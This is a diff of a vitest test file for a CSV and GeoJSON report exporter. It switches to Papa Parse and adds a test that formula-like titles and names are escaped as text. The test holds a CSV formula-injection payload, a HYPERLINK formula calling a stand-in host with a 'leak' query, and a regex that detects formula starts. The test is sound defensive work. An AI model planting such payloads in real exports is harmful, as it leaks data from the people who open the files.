@@ -6,10 +6,11 @@
  * text summary.
  */
 import { describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
 import type { Feature, MultiPolygon, Polygon } from 'geojson';
 import { atlas } from '../../test/unit/generatedData';
 import { buildAnalysisIndex, coverageReport, type CoverageReport } from './analysis';
-import { BOM, csvField, reportCsv, reportGeoJson, reportSummary } from './reportExport';
+import { BOM, reportCsv, reportGeoJson, reportSummary } from './reportExport';
 
 const data = atlas();
 const index = buildAnalysisIndex(data);
@@ -18,25 +19,12 @@ const report = coverageReport(index, sichuan, { within: [{ layer: 'railway', km:
 const jinzhai = data.countyByAdcode.get('341524')! as Feature<Polygon | MultiPolygon>;
 const small = coverageReport(index, jinzhai);
 
-/** RFC 4180 reader: rows of fields; quoted fields may hold commas, doubled quotes and line breaks. */
+/** The CSV's rows of fields, read by Papa Parse (RFC 4180); it must end with CRLF. */
 function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') row.push(field), (field = '');
-    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
-    else field += ch;
-  }
-  if (field || row.length) throw new Error('CSV does not end with CRLF');
-  return rows;
+  if (!text.endsWith('\r\n')) throw new Error('CSV does not end with CRLF');
+  const r = Papa.parse<string[]>(text.slice(0, -2), { newline: '\r\n' });
+  if (r.errors.length) throw new Error(r.errors[0].message);
+  return r.data;
 }
 
 /** The data rows of the CSV section whose rows start with `kind`, after the BOM. */
@@ -145,12 +133,22 @@ describe('reportCsv of a real report (Sichuan)', () => {
 describe('CSV quoting (RFC 4180)', () => {
   const odd = '甲,乙 "丙"\n丁\r戊';
 
-  it('csvField quotes commas, quotes and line breaks, doubles quotes, leaves the rest', () => {
-    const cases: [string | number | null | undefined, string][] = [
-      ['金寨县', '金寨县'], ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['two\nlines', '"two\nlines"'], ['cr\ronly', '"cr\ronly"'],
-      [null, ''], [undefined, ''], [0, '0'], [-1.5, '-1.5'],
-    ];
-    for (const [v, out] of cases) expect(csvField(v), JSON.stringify(v)).toBe(out);
+  it('a title or name that starts like a formula (=, +, -, @) is written as text, never as a formula; numbers stay numbers', () => {
+    const evil = '=HYPERLINK("http://example.invalid/?leak","click")';
+    const crafted: CoverageReport = {
+      ...report,
+      counties: report.counties.map((c, i) => (i === 0 ? { ...c, name: '@SUM(A1:A9)', provName: '+1+1' } : c)),
+      projects: report.projects.map((p) => ({ ...p, name_zh: '-2+3' })),
+    };
+    const csv = reportCsv(crafted, evil);
+    expect(rowsOf(csv, 'region')[0][1]).toBe(`'${evil}`);
+    const county = rowsOf(csv, 'county')[0];
+    expect([county[2], county[3]]).toEqual(["'@SUM(A1:A9)", "'+1+1"]);
+    expect(rowsOf(csv, 'project').length).toBeGreaterThan(0);
+    for (const p of rowsOf(csv, 'project')) expect(p[3]).toBe("'-2+3");
+    // no field of the file starts a formula (a negative number is a number)
+    for (const r of parseCsv(csv.slice(BOM.length))) for (const f of r) expect(f, f).not.toMatch(/^[=+@\t\r]|^-(?![0-9])/);
+    expect(rowsOf(reportCsv(report, '四川省'), 'area_km2')[0][1]).toMatch(/^\d+(\.\d+)?$/);
   });
 
   it('names with commas, quotes and line breaks read back unchanged from a whole report', () => {
